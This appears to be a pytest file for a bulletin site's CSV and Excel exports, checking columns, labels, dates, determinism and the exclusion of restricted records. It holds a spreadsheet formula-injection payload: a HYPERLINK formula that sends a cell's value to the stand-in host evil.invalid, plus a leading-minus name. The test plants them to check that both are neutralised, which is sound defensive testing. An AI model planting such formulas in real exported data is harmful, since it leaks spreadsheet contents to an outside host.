"""The exports: CSV for scripts (the fields' keys and codes, unchanged, then label columns in the site's language)
and an Excel workbook per type (labels, dates as dates, numbers as numbers, IDs linked, the same bytes for the
same records and --today), of the records this audience sees only. Real `bulletin build`s of a demo copy."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup

from conftest import DEMO_TODAY, bulletin, copy_demo, git

SITE_URL = "http://bulletin.example.internal/"
HOSTILE_TITLE = '=HYPERLINK("http://evil.invalid/?x="&A1,"点此查看")'
HOSTILE_NAME = "-陈静+1"
HIDDEN_IDS = {"MTG-2025-006", "CAPA-2026-003", "NTC-2026-004", "CMP-2026-003", "EXT-2026-002", "EXT-2026-008"}
HIDDEN_REF = "一条受限记录（无权查看）"
TYPES = ("meeting", "notice", "capa", "report", "complaint", "nc", "survey", "memo", "contact")
# capa.csv as it was before the label columns: its header and the cells of one row, byte for byte (plus
# effectiveness_due, a field contract v2's audit settings added to capa: a column of its own, by definition order)
OLD_CAPA_HEADER = ("id,title,department,visibility,tags,related,former_ids,source,source_ref,customer,opened_on,due,"
                   "owner,status,containment,root_cause,approved_by,approved_on,closed_on,cancel_reason,part_number,lot,"
                   "quantity,customer_response_due,team,error_proofing,pfmea_updated,control_plan_updated,"
                   "horizontal_deployment,effectiveness_due,cost_of_quality").split(",")
OLD_CAPA_002 = ["CAPA-2025-002", "华东汽车卡钳支架安装孔毛刺超标客诉", "QA", "", "客诉、8D、华东汽车、冲压", "", "",
                "customer-complaint", "CC-2025-004", "华东汽车", "2025-02-26", "2025-04-30", "zhaolei", "closed"]


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), "utf-8")


def _build(repo: Path, out: str, env: dict, audience: str = "all-staff") -> Path:
    done = bulletin("build", "--out", out, "--today", DEMO_TODAY, "--audience", audience, "--no-progress",
                    cwd=repo, env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    return repo / out


@pytest.fixture(scope="module")
def repo(tmp_path_factory):
    repo = copy_demo(tmp_path_factory.mktemp("exports") / "repo")
    _edit(repo / "site_config/site.yml", "# site_url: http://bulletin.example.internal/", f"site_url: {SITE_URL}")
    _edit(next((repo / "records/capa/2025").glob("CAPA-2025-001-*.md")),
          "title: 机加工车间部分量检具超期未校准", f"title: '{HOSTILE_TITLE}'")
    _edit(repo / "site_config/people.yml", "name: 陈静", f"name: '{HOSTILE_NAME}'")
    git("commit", "-qam", "hostile title and name", cwd=repo)
    return repo


@pytest.fixture(scope="module")
def site(repo, tmp_path_factory):
    cache = tmp_path_factory.mktemp("cache-a")
    return _build(repo, "site", {"TZ": "UTC", "BULLETIN_CACHE_DIR": str(cache)})


def _csv(site: Path, rtype: str) -> list[list[str]]:
    data = (site / "exports" / f"{rtype}.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(site: Path, rtype: str):
    return openpyxl.load_workbook(site / "exports" / f"{rtype}.xlsx").active


def _types(repo: Path):
    from generator.config import load_config
    return load_config(repo).types


def test_csv_keeps_its_columns_and_adds_label_columns(site, repo):
    rows = _csv(site, "capa")
    head = rows[0]
    assert head[:len(OLD_CAPA_HEADER)] == OLD_CAPA_HEADER
    assert head[len(OLD_CAPA_HEADER):] == ["部门", "可见范围", "来源", "客户", "负责人", "状态", "批准人", "8D小组",
                                           "PFMEA已更新", "控制计划已更新"]
    row = next(dict(zip(head, r)) | {"cells": r} for r in rows if r[0] == "CAPA-2025-002")
    assert row["cells"][:len(OLD_CAPA_002)] == OLD_CAPA_002
    assert (row["状态"], row["部门"], row["负责人"], row["来源"], row["批准人"]) == ("已关闭", "品管部", "赵磊",
                                                                                "客户投诉", "王建国")
    assert row["8D小组"].startswith("赵磊、吴海涛") and row["PFMEA已更新"] == "是"
    # every type: the keys first (codes, as in the record files), then a label column per coded field
    types = _types(repo)
    for rtype in TYPES:
        fields = types[rtype].fields
        rows = _csv(site, rtype)
        keys = [k for k in fields if k not in ("actions", "amendments", "withdrawn", "verification", "due_extensions")]
        assert rows[0][:len(keys)] == keys, rtype
        labels = rows[0][len(keys):]
        assert labels and all(not re.fullmatch(r"[a-z_]+", h) for h in labels), (rtype, labels)
        by_head = [dict(zip(rows[0], r)) for r in rows[1:]]
        if "status" in keys:
            codes = set(fields["status"].values)
            assert all(r["status"] in codes and r["状态"] and r["状态"] not in codes for r in by_head), rtype
        if "department" in keys:
            assert all(r["department"].isupper() and not r["部门"].isascii() for r in by_head if r["department"])


def test_xlsx_has_the_visible_records_with_labels_dates_numbers_and_links(site, repo):
    ws = _sheet(site, "capa")
    head = [c.value for c in ws[1]]
    assert head[:6] == ["编号", "标题", "部门", "可见范围", "标签", "相关记录"] and "状态" in head
    rows = {r[0].value: dict(zip(head, r)) for r in ws.iter_rows(min_row=2)}
    assert set(rows) == {r[0] for r in _csv(site, "capa")[1:]}
    row = rows["CAPA-2025-002"]
    assert row["状态"].value == "已关闭" and row["负责人"].value == "赵磊" and row["部门"].value == "品管部"
    assert row["立项日期"].is_date and row["立项日期"].value == datetime(2025, 2, 26)
    assert row["质量损失（元）"].data_type == "n" and row["质量损失（元）"].value == 12400
    assert row["数量"].value == 46
    assert row["编号"].hyperlink.target == SITE_URL + "capa/2025/CAPA-2025-002-caliper-bracket-burr/"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(1, len(head)).column_letter}{ws.max_row}"
    assert all(ws.column_dimensions[c].width >= 8 for c in "ABC")
    for rtype, rt in _types(repo).items():     # every type: the same records as its CSV, dates as dates
        ws = _sheet(site, rtype)
        assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == [r[0] for r in _csv(site, rtype)[1:]]
        head = [c.value for c in ws[1]]
        dates = [head.index(f.title("zh")) for f in rt.fields.values() if f.kind == "date" and f.title("zh") in head]
        assert dates, rtype
        for row in ws.iter_rows(min_row=2):
            assert all(row[i].is_date for i in dates if row[i].value is not None), rtype


def test_a_hostile_title_or_name_is_text_in_both_files(site):
    rows = {r[0]: r for r in _csv(site, "capa")[1:]}
    head = _csv(site, "capa")[0]
    row = dict(zip(head, rows["CAPA-2025-001"]))
    assert row["title"] == "'" + HOSTILE_TITLE and row["负责人"] == "'" + HOSTILE_NAME and row["owner"] == "chenjing"
    ws = _sheet(site, "capa")
    cells = {r[0].value: r for r in ws.iter_rows(min_row=2)}["CAPA-2025-001"]
    title, owner = cells[1], cells[[c.value for c in ws[1]].index("负责人")]
    assert (title.value, title.data_type) == (HOSTILE_TITLE, "s")
    assert (owner.value, owner.data_type) == (HOSTILE_NAME, "s")
    for rtype in TYPES:
        with zipfile.ZipFile(site / "exports" / f"{rtype}.xlsx") as z:
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()), rtype


def test_xlsx_bytes_do_not_depend_on_the_clock_the_zone_or_the_cache(site, repo, tmp_path_factory):
    cache = tmp_path_factory.mktemp("cache-b")
    again = _build(repo, "site2", {"TZ": "Pacific/Kiritimati", "BULLETIN_CACHE_DIR": str(cache)})
    for rtype in TYPES:
        assert (again / "exports" / f"{rtype}.xlsx").read_bytes() == (site / "exports" / f"{rtype}.xlsx").read_bytes()
    with zipfile.ZipFile(site / "exports/capa.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 11, 24, 0, 0, 0)}
        assert z.namelist() == sorted(z.namelist())
    props = openpyxl.load_workbook(site / "exports/capa.xlsx").properties
    assert props.created == props.modified == datetime(2026, 11, 24)


def test_hidden_records_are_not_in_the_all_staff_exports(site, repo, tmp_path_factory):
    def ids(out: Path) -> set[str]:
        found = set()
        for rtype in TYPES:
            found |= {r[0] for r in _csv(out, rtype)[1:]}
            xlsx = {r[0] for r in _sheet(out, rtype).iter_rows(min_row=2, values_only=True)}
            assert xlsx == {r[0] for r in _csv(out, rtype)[1:]}, rtype
            with zipfile.ZipFile(out / "exports" / f"{rtype}.xlsx") as z:
                raw = b"".join(z.read(n) for n in z.namelist()).decode("utf-8")
            assert not {h for h in HIDDEN_IDS if h in raw} - found, rtype
        return found

    assert not ids(site) & HIDDEN_IDS
    # a visible record's reference to a hidden one reads as the site's words for it, in both files
    head, *rows = _csv(site, "capa")
    assert dict(zip(head, next(r for r in rows if r[0] == "CAPA-2026-002")))["related"] == HIDDEN_REF
    ws = _sheet(site, "capa")
    related = [c.value for c in ws[1]].index("相关记录")
    assert next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] == "CAPA-2026-002")[related] == HIDDEN_REF
    restricted = _build(repo, "site-restricted", {"BULLETIN_CACHE_DIR": str(tmp_path_factory.mktemp("cache-c"))},
                        audience="restricted")
    assert HIDDEN_IDS <= ids(restricted)


def test_the_exports_page_links_every_export(site):
    page = BeautifulSoup((site / "exports/index.html").read_text("utf-8"), "html.parser")
    hrefs = {a["href"] for a in page.select("ul.bl-exports a")}
    for rtype in TYPES:
        assert {f"{rtype}.xlsx", f"{rtype}.csv"} <= hrefs, rtype
    assert "状态" in page.select_one(".bl-exports-note + .bl-exports-note").get_text()
